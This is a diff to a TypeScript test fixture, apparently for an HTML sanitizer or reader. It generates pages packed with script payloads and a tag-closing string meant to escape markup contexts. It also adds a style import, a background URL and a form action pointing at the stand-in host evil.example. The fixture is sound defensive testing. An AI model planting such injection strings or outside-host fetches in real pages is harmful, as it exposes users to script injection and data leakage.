@@ -1,5 +1,5 @@
 import { type HttpServer, scriptPayloads, startHttpServer } from "@satchel/testing";
-import { HOSTILE_SVG, hostilePage } from "./hostile-texts.ts";
+import { HOSTILE_SVG, hostilePage, hostileTexts } from "./hostile-texts.ts";
 
 const SVG = "image/svg+xml";
 /** A page with a script payload as its title, escaped (even numbers) or not. */
@@ -13,18 +13,22 @@ function payloadPage(number: number): string {
 /** Ends of the elements in which what follows would be no markup. */
 const ENDINGS = "</script></style></textarea></title></xmp></noscript></template></select></svg></math>-->]]>";
 
-/** Pages that have all script payloads together, each as markup in the page and in an attribute. */
-export const CORPUS_PAGES = 12;
+/** Texts of one page: more of them, never closed, would be nested too deep to be an ordinary page. */
+const CORPUS_TEXTS = 60;
+const corpus = [...hostileTexts, ...scriptPayloads];
 
-/** A page to be kept, with every twelfth script payload. */
+/** Pages that have all hostile texts and script payloads together, each as markup in the page and in an attribute. */
+export const CORPUS_PAGES = Math.ceil(corpus.length / CORPUS_TEXTS);
+
+/** A page to be kept, with so many of them, behind more text than in which a refresh is searched. */
 function corpusPage(number: number): string {
-  const texts = scriptPayloads.filter((_, n) => n % CORPUS_PAGES === number);
+  const texts = corpus.slice(number * CORPUS_TEXTS, (number + 1) * CORPUS_TEXTS);
   const words = "Words of an article, with commas, that go on for a while about tides, the moon, and the harbour. ";
   const parts = texts.map((text) => `<p>${words.repeat(2)}</p><div title="${text}">${text}${ENDINGS}</div>`);
   return `<!doctype html><html lang="en"><meta charset="utf-8"><title>Corpus ${number}</title>
 <style>@import '//evil.example/x.css';h1{background:url(//evil.example/y)}</style>
 <form action="//evil.example/" id="sent"><input name="a"><button>Send</button></form>
-<article><h1>Corpus ${number}</h1>${parts.join("\n")}</article>`;
+<article><h1>Corpus ${number}</h1><p>${words.repeat(200)}</p>${parts.join("\n")}</article>`;
 }
 
 /** 64 × 64 px, brass. */
